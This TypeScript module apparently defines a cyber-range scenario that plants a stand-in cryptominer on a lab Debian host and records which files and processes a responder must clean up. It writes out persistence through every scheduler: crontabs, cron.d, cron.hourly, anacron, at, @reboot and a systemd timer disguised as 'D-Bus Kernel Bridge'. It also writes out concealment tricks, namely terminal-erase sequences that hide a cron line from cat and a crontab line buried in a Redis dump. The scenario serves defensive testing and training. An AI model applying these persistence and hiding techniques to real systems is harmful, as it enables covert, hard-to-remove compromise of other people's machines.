// One payload, every scheduler Debian has: user crontabs (one of an account that cannot log in), the system crontab, cron.d with line
// tricks, an hourly script, anacron, at, @reboot, a crontab written by a database dump, and a systemd timer. Other lines are the owner's.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { standIn } from '../stand-ins/stand-ins.ts'
import { decoyFiles, decoyProcesses, legitimatePreload, plantDecoys } from './decoys.ts'
import { append, put, putCrontab, putProgram } from './plant.ts'
import { fakeWallet, untilMining } from './mining.ts'
import type { HostileFile, Scenario } from './scenario.ts'

const payload = '/.x9'
const arguments_ = `-B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x`
const command = `${payload} ${arguments_} >/dev/null 2>&1`

const rootLine = `* * * * * ${command}`
const rebootLine = `@reboot ${command}`
const devLine = `*/2 * * * * ${command}`
const systemLine = `*/3 * * * * root ${command}`
const anacronLine = `1\t3\tsys.update\t${command}`
const unitName = 'dbus-kernel'

/** Carriage returns and erase sequences: `cat` on a terminal shows an innocent comment. */
const trickFile = `# system statistics\r\n*/5 * * * * root ${command} ;#\r\x1b[2K\x1b[1A# m h dom mon dow user command\r\n`

/** What an unprotected Redis writes when told to save into the spool: a binary dump with a crontab line in it. */
const dumpFile = Buffer.concat([
  Buffer.from('REDIS0009\xfa\x09redis-ver\x055.0.7\xfa\x0aredis-bits\xc0\x40\xfe\x00\xfb\x01\x00\x00\x01x', 'latin1'),
  Buffer.from(`\n\n*/2 * * * * ${command}\n\n`),
  Buffer.from('\xff\x8b\x11\x3a\xd0\x52\x91\x7e\x04', 'latin1'),
])

const hostileFiles: readonly HostileFile[] = [
  { path: payload, remove: 'whole' },
  { path: '/var/spool/cron/crontabs/root', remove: { lines: [rootLine, rebootLine] } },
  { path: '/var/spool/cron/crontabs/dev', remove: { lines: [devLine] } },
  { path: '/var/spool/cron/crontabs/www-data', remove: { lines: [rootLine] } },
  { path: '/var/spool/cron/crontabs/mail', remove: 'whole' },
  { path: '/etc/crontab', remove: { lines: [systemLine] } },
  { path: '/etc/cron.d/phps', remove: 'whole' },
  { path: '/etc/cron.hourly/gcc4', remove: 'whole' },
  { path: '/etc/anacrontab', remove: { lines: [anacronLine] } },
  { path: '/var/spool/cron/atjobs/a*', remove: 'whole' },
  { path: `/etc/systemd/system/${unitName}.service`, remove: 'whole' },
  { path: `/etc/systemd/system/${unitName}.timer`, remove: 'whole' },
  { path: `/etc/systemd/system/timers.target.wants/${unitName}.timer`, remove: 'whole' },
]

export const everyCron: Scenario = {
  name: 'every-cron',
  about: 'one payload started by every scheduler a Debian host has',
  plant: async (host) => {
    put(host, '/etc/ld.so.preload', `${legitimatePreload}\n`)
    await plantDecoys(host)
    putProgram(host, payload, standIn('labminer'), { daysOld: 0 })
    plantCrontabs(host)
    plantTimer(host)
    await host.sh('systemctl daemon-reload; systemctl -q enable --now "$1"', `${unitName}.timer`)
    await host.sh(`echo '${command}' | at now + 45 minutes 2>/dev/null`)
    await host.startIn('cron.service', [payload, ...arguments_.split(' ')])
    await untilMining(host, everyCron)
  },
  hostileFiles,
  dormantFiles: [],
  attackerFolders: [],
  hostileProcesses: [{ contains: payload }],
  decoyFiles: [
    ...decoyFiles,
    { path: '/etc/ld.so.preload', looks: 'a preload file, with one library that a package owns' },
  ],
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: hostileFiles.map(({ path }) => path),
}

function plantCrontabs(host: RangeHost): void {
  const fresh = { daysOld: 0 }
  putCrontab(
    host,
    'root',
    `# m h  dom mon dow   command\nMAILTO=ops@example.test\n0 5 * * 0 tar -zcf /var/backups/home.tgz /home\n${rootLine}\n# keep the next one last\n@daily /usr/local/sbin/check-miners\n${rebootLine}\n`,
    fresh,
  )
  putCrontab(host, 'dev', `# dev\nSHELL=/bin/bash\n\n${devLine}\n30 8 * * 1-5 $HOME/bin/report	# weekdays\n`, fresh)
  putCrontab(host, 'www-data', `${rootLine}\n`, fresh)
  putCrontab(host, 'mail', dumpFile, fresh)
  append(host, '/etc/crontab', systemLine)
  put(host, '/etc/cron.d/phps', trickFile, fresh)
  put(host, '/etc/cron.hourly/gcc4', `#!/bin/sh\n${command}\n`, { mode: 0o755, daysOld: 0 })
  append(host, '/etc/anacrontab', anacronLine)
  const today = readFileSync(join(host.dir, 'var/spool/anacron/cron.daily'), 'utf8')
  put(host, '/var/spool/anacron/sys.update', today, { mode: 0o600, daysOld: 0 })
}

/** A pair that starts the payload again twenty seconds after it died. */
function plantTimer(host: RangeHost): void {
  put(
    host,
    `/etc/systemd/system/${unitName}.service`,
    `[Unit]\nDescription=D-Bus Kernel Bridge\n\n[Service]\nType=forking\nExecStart=${payload} ${arguments_}\n`,
    { daysOld: 0 },
  )
  put(
    host,
    `/etc/systemd/system/${unitName}.timer`,
    `[Unit]\nDescription=D-Bus Kernel Bridge\n\n[Timer]\nOnActiveSec=20\nOnUnitInactiveSec=20\nAccuracySec=1\n\n[Install]\nWantedBy=timers.target\n`,
    { daysOld: 0 },
  )
}
